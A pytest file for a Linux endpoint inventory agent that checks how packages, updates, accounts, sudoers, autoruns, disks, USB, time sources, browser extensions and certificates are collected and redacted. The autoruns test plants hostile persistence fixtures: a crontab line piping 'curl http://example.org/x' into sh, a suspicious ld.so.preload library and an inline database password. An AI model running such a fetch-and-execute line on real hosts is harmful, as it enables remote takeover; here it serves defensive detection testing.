"""Each section of a Linux host, from what its sources say on Polish and English systems."""

from __future__ import annotations

import json
import ssl
from pathlib import Path

import pytest

from agent.inventory.linux import (
    SECTIONS,
    accounts,
    authorities,
    autoruns,
    browsers,
    disks,
    machine,
    packages,
    services,
    timesource,
    updates,
    usb,
)
from agent.inventory.linux.host import time_zone
from agent.inventory.raw import Unknown
from agent.wire import inventory
from tests.agent.inventory.facts import items

DPKG = """\
Package: openssl
Status: install ok installed
Architecture: amd64
Source: openssl (3.0.15-1~deb12u1)
Version: 3.0.15-1~deb12u1+b1
Description: Secure Sockets Layer toolkit
 Version: of a description is no field

Package: language-pack-pl
Status: install ok installed
Architecture: all
Version: 1:24.04

Package: removed
Status: deinstall ok config-files
Architecture: amd64
Version: 1
"""
APT = """\
Reading package lists...
Inst libssl3 [3.0.14-1] (3.0.15-1 Debian-Security:12/stable-security [amd64]) []
Inst nano [7.2-1] (7.2-2 Debian:12.15/stable [amd64])
Inst linux-image-6.1.0-50 (6.1.170-1 Debian-Security:12/stable-security [amd64])
Conf libssl3 (3.0.15-1 Debian-Security:12/stable-security [amd64])
"""
PASSWD = "root:x:0:0:root:/root:/bin/bash\nżaneta:x:1000:1000:Żaneta Żółć,,,:/home/żaneta:/bin/bash\nbroken\n"
SHADOW = "root:*:19000::::::\nżaneta:$y$j9T$abc:19000:0:99999:7:::\n"


def test_every_section_is_one_of_the_wires_and_is_collected_once() -> None:
    names = [section.name for section in SECTIONS]
    assert sorted(names) == sorted(inventory.SECTIONS)


def test_packages_of_dpkg_carry_their_source_and_of_rpm_their_epoch_only_when_there_is_one() -> None:
    found = items(packages.SECTION, dpkg=DPKG)
    assert set(found) == {"openssl:amd64", "language-pack-pl:all"}
    assert found["openssl:amd64"]["package.version"] == "3.0.15-1~deb12u1+b1"
    assert found["openssl:amd64"]["inventory.source_version"] == "3.0.15-1~deb12u1"
    assert found["language-pack-pl:all"]["inventory.source_version"] == "1:24.04"
    rpm = "kernel\t0:5.14.0-1.el9\tx86_64\tkernel-5.14.0-1.el9.src.rpm\nvim\t2:8.2-1\tx86_64\tvim-8.2-1.src.rpm\n"
    printed = items(packages.SECTION, rpm={"code": 0, "out": rpm})
    assert [fields["package.version"] for fields in printed.values()] == ["5.14.0-1.el9", "2:8.2-1"]


def test_a_host_without_a_package_database_is_not_an_empty_one() -> None:
    with pytest.raises(Unknown, match="no_source"):
        items(packages.SECTION)
    with pytest.raises(Unknown, match="needs_root"):
        items(packages.SECTION, dpkg="!denied")


def test_updates_are_those_of_what_is_installed_and_security_is_told_by_the_origin() -> None:
    found = items(updates.SECTION, apt={"code": 0, "out": APT})
    assert {key: fields["inventory.security"] for key, fields in found.items()} == {"libssl3": True, "nano": False}
    assert found["libssl3"]["inventory.available"] == "3.0.15-1"
    with pytest.raises(Unknown, match="source_failed"):
        items(updates.SECTION, apt={"code": 100, "out": ""})
    listed = (
        "\nopenssl.x86_64   1:3.0.7-28   baseos\nvim.x86_64  2:8.2-2  appstream\nObsoleting Packages\nold.noarch 1 x\n"
    )
    dnf = items(
        updates.SECTION,
        dnf={"code": 100, "out": listed},
        dnf_security={"code": 100, "out": "openssl.x86_64   1:3.0.7-28   baseos\n"},
    )
    security = {key: fields["inventory.security"] for key, fields in dnf.items()}
    assert security == {"openssl.x86_64": True, "vim.x86_64": False}


def test_accounts_tell_whether_there_is_a_password_and_neither_its_hash_nor_a_persons_name() -> None:
    found = items(accounts.ACCOUNTS, passwd=PASSWD, shadow=SHADOW, group="")
    assert {key: fields["inventory.password"] for key, fields in found.items()} == {"root": "locked", "żaneta": "set"}
    assert "$y$" not in json.dumps(found)
    assert "Żółć" not in json.dumps(found, ensure_ascii=False)
    with pytest.raises(Unknown, match="needs_root"):
        items(accounts.ACCOUNTS, passwd=PASSWD, shadow="!denied", group="")


def test_who_has_power_by_group_by_primary_group_and_by_sudoers() -> None:
    found = items(
        accounts.MEMBERS,
        passwd=PASSWD + "maria:x:1001:27::/home/maria:/bin/bash\n",
        shadow=SHADOW,
        group="sudo:x:27:żaneta,jan\nurząd:x:1000:maria\n",
        sudoers="Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL) NOPASSWD: ALL # B\n#1001 ALL = /bin/ls\n",
        sudoers_d={"/etc/sudoers.d/kopie": "kopia ALL = (root) NOPASSWD: /usr/bin/rsync, \\\n /bin/tar\n"},
    )
    members = {key for key, fields in found.items() if "group.name" in fields}
    assert members == {"sudo:maria", "sudo:żaneta", "sudo:jan"}
    free = {
        fields["user.name"]: fields["inventory.commands"]
        for fields in found.values()
        if fields.get("inventory.no_password")
    }
    assert free == {"%sudo": "ALL", "kopia": "/usr/bin/rsync, /bin/tar"}


def test_services_that_have_a_state_of_their_own() -> None:
    printed = "ssh.service enabled enabled\ncups.socket disabled enabled\ngetty@.service static -\nx.service masked -\n"
    found = items(services.SECTION, units={"code": 0, "out": printed})
    assert {key: fields["service.state"] for key, fields in found.items()} == {
        "ssh.service": "enabled", "cups.socket": "disabled", "x.service": "masked",
    }  # fmt: skip


def test_what_runs_by_itself_is_told_without_the_secrets_in_it() -> None:
    found = items(
        autoruns.SECTION,
        crontab="SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n",
        cron_d={"/etc/cron.d/kopia": "@daily kopia mysqldump -phaslo123 baza\n# uwaga\n"},
        user_crontabs={"/var/spool/cron/crontabs/żaneta": "*/5 * * * * curl http://example.org/x | sh\n"},
        profile_d={"/etc/profile.d/pusty.sh": "\n", "/etc/profile.d/pl.sh": "export LANG=pl_PL.UTF-8\n"},
        preload="/tmp/zly.so\n",
        autostart_users={
            "/home/j.nowak/.config/autostart/a.desktop": "[Desktop Entry]\nName=Żuk\nExec=/home/j.nowak/x\n"
        },
        timers={"code": 0, "out": "apt-daily.timer enabled enabled\nfstrim.timer disabled enabled\n"},
    )
    commands = {fields.get("process.command_line") for fields in found.values()}
    assert "curl http://example.org/x | sh" in commands
    assert "haslo123" not in json.dumps(found)
    assert {fields.get("user.name") for fields in found.values()} >= {"root", "kopia", "żaneta"}
    scripts = {fields["file.path"] for fields in found.values() if fields["inventory.kind"] == "script"}
    assert scripts == {"/etc/profile.d/pl.sh", "/etc/ld.so.preload"}
    assert [key for key in found if key.endswith(".timer")] == ["apt-daily.timer"]


def test_a_zone_is_what_the_systems_clock_is_a_link_to(tmp_path: Path) -> None:
    link = tmp_path / "localtime"
    link.symlink_to("/usr/share/zoneinfo/Europe/Warsaw")
    assert time_zone(link) == "Europe/Warsaw"
    link.unlink()
    link.symlink_to("../elsewhere")
    assert not time_zone(link)


def test_disks_below_a_luks_container_are_encrypted() -> None:
    root = {"name": "root", "type": "lvm", "size": 90, "fstype": "ext4", "mountpoints": ["/"]}
    crypt = {"name": "vda2_crypt", "type": "crypt", "size": 95, "mountpoints": [None], "children": [root]}
    disk = {
        "name": "vda", "type": "disk", "size": 100, "serial": "S1", "rm": False, "mountpoints": [None],
        "children": [{"name": "vda1", "type": "part", "size": 5, "mountpoints": ["/boot"]},
                     {"name": "vda2", "type": "part", "size": 95, "mountpoints": [None], "children": [crypt]}],
    }  # fmt: skip
    found = items(disks.SECTION, lsblk={"code": 0, "out": json.dumps({"blockdevices": [disk]})})
    assert {key: fields["inventory.encrypted"] for key, fields in found.items()} == {
        "disk:S1": False, "vda1": False, "root": True,
    }  # fmt: skip


def test_usb_devices_without_hubs() -> None:
    base = "/sys/bus/usb/devices/"
    found = items(
        usb.SECTION,
        idVendor={f"{base}1-1/idVendor": "0781\n", f"{base}usb1/idVendor": "1d6b\n"},
        idProduct={f"{base}1-1/idProduct": "5567\n"},
        serial={f"{base}1-1/serial": "4C53\n"},
        bDeviceClass={f"{base}1-1/bDeviceClass": "00\n", f"{base}usb1/bDeviceClass": "09\n"},
        storage={"/sys/bus/usb/drivers/usb-storage/1-1:1.0/bInterfaceClass": "08\n"},
    )
    assert {key: fields["inventory.storage"] for key, fields in found.items()} == {"0781:5567:4C53": True}


def test_where_the_time_comes_from() -> None:
    found = items(
        timesource.SECTION,
        timesyncd="[Time]\n#NTP=nic\nNTP=tempus1.gum.gov.pl tempus2.gum.gov.pl\n",
        chrony="pool 2.debian.pool.ntp.org iburst\n# server nie\n",
        show={"code": 0, "out": "NTP=yes\nNTPSynchronized=yes\nTimezone=Europe/Warsaw\n"},
    )
    assert set(found) == {
        "server:tempus1.gum.gov.pl", "server:tempus2.gum.gov.pl", "server:2.debian.pool.ntp.org", "clock",
    }  # fmt: skip
    assert found["clock"]["inventory.time_zone"] == "Europe/Warsaw"


def test_extensions_of_browsers_without_the_browsers_own_parts() -> None:
    addons = [
        {
            "id": "a@x",
            "type": "extension",
            "version": "1",
            "location": "app-profile",
            "defaultLocale": {"name": "Żabka"},
        },
        {"id": "b@x", "type": "theme", "version": "1", "location": "app-profile"},
        {"id": "c@x", "type": "extension", "version": "1", "location": "app-builtin"},
    ]
    key = "abcdefghijklmnopabcdefghijklmnop"
    found = items(
        browsers.SECTION,
        firefox={"/home/j.nowak/.mozilla/firefox/p/extensions.json": json.dumps({"addons": addons})},
        chrome={
            f"/home/e.wilk/.config/google-chrome/Default/Extensions/{key}/1.2_0/manifest.json": json.dumps(
                {"name": "__MSG_appName__", "version": "1.2"}
            )
        },
    )
    told = [(fields["inventory.browser"], fields["user.name"], fields["package.name"]) for fields in found.values()]
    assert told == [("Firefox", "j.nowak", "Żabka"), ("Chrome", "e.wilk", key)]


def test_authorities_that_were_added_here_are_told_apart() -> None:
    context = ssl.create_default_context()
    ders = context.get_ca_certs(binary_form=True)[:2]
    if len(ders) < 2:
        pytest.skip("this machine trusts no authorities")
    one, two = (ssl.DER_cert_to_PEM_cert(der) for der in ders)
    found = items(
        authorities.SECTION, bundle=one + two + "-----BEGIN CERTIFICATE-----\n!!\n-----END CERTIFICATE-----\n",
        own={"/usr/local/share/ca-certificates/urzad.crt": two},
    )  # fmt: skip
    assert len(found) == 2
    assert [fields.get("file.path") for fields in found.values() if fields.get("inventory.added")] == [
        "/usr/local/share/ca-certificates/urzad.crt"
    ]
    assert all(isinstance(fields["x509.not_after"], int) for fields in found.values())


def test_the_machine_and_its_system() -> None:
    hardware, system, software = machine.SECTIONS
    facts = {"memory": 8 << 30, "cores": 4, "threads": 8, "architecture": "x86_64",
             "cards": {"lo": ["00:00:00:00:00:00"], "enp1s0": ["52:54:00:12:34:56"]}}  # fmt: skip
    found = items(
        hardware, machine=facts, cpu="model name\t: Intel(R) Core(TM) i5\n",
        dmi={"/sys/class/dmi/id/sys_vendor": "Dell Inc.\n", "/sys/class/dmi/id/product_serial": "Default string\n"},
    )  # fmt: skip
    assert found["machine"] == {"device.manufacturer": "Dell Inc."}
    assert set(found) == {"memory", "card:enp1s0", "machine", "bios", "cpu"}
    told = items(
        system, release='NAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n', kernel="6.1.0\n", name="SEKRETARIAT\n",
        domain="(none)\n", zone="Europe/Warsaw\n", locale='LANG="pl_PL.UTF-8"\n',
    )  # fmt: skip
    assert told["os"]["os.version"] == "12"
    assert told["names"] == {
        "inventory.name": "SEKRETARIAT", "inventory.time_zone": "Europe/Warsaw", "inventory.locale": "pl_PL.UTF-8",
    }  # fmt: skip
    linked = items(system, release="ID=debian\n", kernel="6.12.0\n", name="DEBIAN13\n", localtime="Europe/Warsaw")
    assert linked["names"]["inventory.time_zone"] == "Europe/Warsaw"
    assert set(items(software, snaps={"/snap/firefox/current": 1}, opt={"/opt/platnik": 1})) == {
        "snaps:firefox", "opt:platnik",
    }  # fmt: skip
